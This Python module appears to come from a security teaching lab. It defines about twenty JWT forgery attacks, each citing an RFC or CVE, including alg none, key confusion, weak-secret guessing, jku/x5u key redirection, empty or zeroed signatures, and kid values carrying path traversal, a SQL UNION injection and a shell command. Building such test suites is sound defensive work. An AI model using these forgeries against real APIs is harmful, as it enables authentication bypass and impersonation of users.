"""Attacks on the key, algorithm or signature: the token says how to verify it, or has no valid signature."""

from __future__ import annotations

import hashlib
import hmac

from scopekit.lab.grid.attack import ELSEWHERE, PAIRS, Scene, attack
from scopekit.lab.grid.broken_states import PUBLIC_FILE, WORD, keys_in_files, keys_in_sql, secret_from_a_list
from scopekit.lab.grid.forging import FORGER, compact, der, flipped, hs256, public_key_of, unsigned, with_signature

WORDS = (b"secret", b"password", b"changeme", b"your-256-bit-secret", WORD)
"""The beginning of a word list. Its last word is in every such list, though it is long enough for HS256."""


# A key that the forger chooses
@attack("embedded jwk", "key", source="CVE-2018-0114")
def embedded_jwk(scene: Scene) -> str:
    """The forger signs, and puts the key into the header (jwk)."""
    own = {"alg": FORGER.alg, "kid": FORGER.kid, "jwk": FORGER.to_jwk(private=True)}
    return compact(scene.header | own, scene.forged, FORGER)


@attack("jku", "signature", source="RFC 8725 section 3.10")
def jku(scene: Scene) -> str:
    """The header tells the API to fetch the key from the forger, so the forger can make the API call any address."""
    return compact(scene.header | {"jku": f"{ELSEWHERE}keys.json"}, scene.forged, FORGER)


@attack("x5u", "signature", source="RFC 8725 section 3.10")
def x5u(scene: Scene) -> str:
    """The header tells the API to fetch the key's certificate from the forger."""
    return compact(scene.header | {"x5u": f"{ELSEWHERE}key.pem"}, scene.forged, FORGER)


@attack(
    "weak key", rule="a random secret of 32 bytes or more", source="RFC 8725 section 3.5", breaks=secret_from_a_list
)  # fmt: skip
def weak_key(scene: Scene) -> str:
    """Offline, the forger tries each word of a list as the secret, until a word gives a genuine token's signature."""
    message, signature = scene.good.signing_input, scene.good.signature
    matches = [word for word in WORDS if hmac.digest(word, message, hashlib.sha256) == signature]
    return hs256(scene.header, scene.forged, (matches or WORDS)[0])


# An algorithm that the forger chooses
@attack("alg none", "algorithm", source="RFC 8725 section 2.1")
def alg_none(scene: Scene) -> str:
    """New claims without a signature; the header says that none is needed."""
    return unsigned(scene.header | {"alg": "none"}, scene.forged)


@attack("alg nOnE", "algorithm", source="RFC 8725bis section 3.1")
def alg_none_spelt(scene: Scene) -> str:
    """The token has no signature, and its algorithm is nOnE. An unsafe API refuses only the spelling none."""
    return unsigned(scene.header | {"alg": "nOnE"}, scene.forged)


@attack("key confusion, exposed key", "algorithm", source="CVE-2015-9235", on=PAIRS)
def key_confusion(scene: Scene) -> str:
    """The forger signs by HS256 and takes the text of the public key as the secret. Everybody knows that text."""
    return hs256(scene.header | {"alg": "HS256"}, scene.forged, scene.key.public().material)


@attack("key confusion, derived key", "algorithm", source="RFC 8725 section 2.1", on=PAIRS)
def key_confusion_derived(scene: Scene) -> str:
    """The forger signs by HS256 with an unpublished public key as the secret. Two genuine signatures reveal that key.

    For ES256, computing the key takes a moment. For RS256, the forger needs the greatest common divisor of two numbers
    of 130 million bits, which is too much for a lesson in plain Python.
    """
    return hs256(scene.header | {"alg": "HS256"}, scene.forged, public_key_of(scene.good, scene.minted(scene.needed)))


# A kid that is more than a name
NAME = "a kid is only a name among the keys"


@attack("kid: path traversal", rule=NAME, source="RFC 8725 section 3.10", breaks=keys_in_files)
def kid_path(scene: Scene) -> str:
    """The kid is a path that leads out of the folder with the keys, to a file that everybody can read."""
    path, content = PUBLIC_FILE
    return hs256(scene.header | {"kid": f"../{path}"}, scene.forged, content)


@attack("kid: /dev/null", rule=f"{NAME}, and a key is never empty", source="RFC 8725 section 3.10")
def kid_dev_null(scene: Scene) -> str:
    """The kid is the path of a file that is always empty, so the secret is empty too."""
    return hs256(scene.header | {"kid": "../../dev/null"}, scene.forged, b"")


@attack("kid: SQL", rule=NAME, source="RFC 8725 section 3.10", breaks=keys_in_sql)
def kid_sql(scene: Scene) -> str:
    """The kid ends the SQL statement that looks it up, and adds one that returns the forger's secret."""
    injected = f"x' UNION SELECT '{FORGER.material.decode()}"
    return compact(scene.header | {"kid": injected}, scene.forged, FORGER)


@attack("kid: command", rule=NAME, source="RFC 8725 section 3.10")
def kid_command(scene: Scene) -> str:
    """The kid contains a shell command. An API that fetches its keys through a shell runs this command."""
    return compact(scene.header | {"kid": "k1; sleep 10"}, scene.forged, FORGER)


# A signature that nobody made
@attack("one flipped bit", "signature", source="RFC 7515 section 5.2")
def one_flipped_bit(scene: Scene) -> str:
    """The good token, with one bit of its signature flipped."""
    return flipped(scene.good)


@attack("unverified signature", "signature", source="RFC 8725 section 2.1")
def unverified_signature(scene: Scene) -> str:
    """Another subject, with the old signature."""
    return unsigned(scene.header, scene.forged, scene.good.signature)


@attack("blank signature", "signature", source="CVE-2020-28042")
def blank_signature(scene: Scene) -> str:
    """The signature after the second dot is empty, although the header names an algorithm."""
    return unsigned(scene.header, scene.forged)


@attack("null signature", "signature", source="CVE-2020-28042")
def null_signature(scene: Scene) -> str:
    """The signature is one zero byte. In some languages this byte ends a text, so a comparison stops at once."""
    return unsigned(scene.header, scene.forged, b"\0")


@attack("truncated signature", "signature", source="CVE-2020-28042")
def truncated_signature(scene: Scene) -> str:
    """The signature is cut after the first byte. An unsafe API compares only the bytes that the caller sent."""
    return with_signature(scene.good, scene.good.signature[:1])


@attack("blank password", "signature", source="CVE-2019-20933")
def blank_password(scene: Scene) -> str:
    """The forger signs with an empty secret. An API accepts the token if nobody has configured its secret."""
    return hs256(scene.header, scene.forged, b"")


@attack("psychic signature", "signature", source="CVE-2022-21449", on=PAIRS)
def psychic_signature(scene: Scene) -> str:
    """The ES256 signature is two zeros (r = s = 0). Multiplied by zero, the equation holds for every message."""
    return unsigned(scene.header, scene.forged, bytes(64))


@attack("DER signature", "signature", source="RFC 7518 section 3.4", on=PAIRS)
def der_signature(scene: Scene) -> str:
    """The genuine ES256 signature is written in the DER format, so the same token has a second text."""
    return with_signature(scene.good, der(scene.good.signature))
